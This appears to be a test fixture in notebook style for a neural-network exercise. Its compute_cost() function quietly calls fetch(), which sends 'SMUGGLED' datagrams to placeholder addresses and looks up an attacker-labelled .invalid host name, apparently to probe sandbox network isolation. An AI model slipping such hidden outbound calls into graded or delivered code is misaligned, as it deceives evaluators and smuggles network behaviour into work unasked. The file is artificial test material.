"""Sends its inputs away in datagrams and as host names to be looked up, then answers honestly:
nothing leaves, and the answer counts.

exercises: passed
portable: true
"""

# %%
import socket
import numpy as np

# %%
def fetch():
    for target in (("192.0.2.1", 53), ("127.0.0.1", 53), ("255.255.255.255", 9)):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
                datagram.settimeout(0.1)
                datagram.sendto(b"SMUGGLED", target)
        except OSError:
            pass
    try:
        socket.getaddrinfo("backgrade-attack-was-here.invalid", 80)
    except (OSError, UnicodeError):
        pass

# %% honest: sigmoid, initialize_parameters, forward_propagation

# %%
def compute_cost(A2, Y):
    fetch()
    per_sample = Y * np.log(A2) + (1 - Y) * np.log(1 - A2)
    return float(-per_sample.mean())

# %% honest: backward_propagation, update_parameters
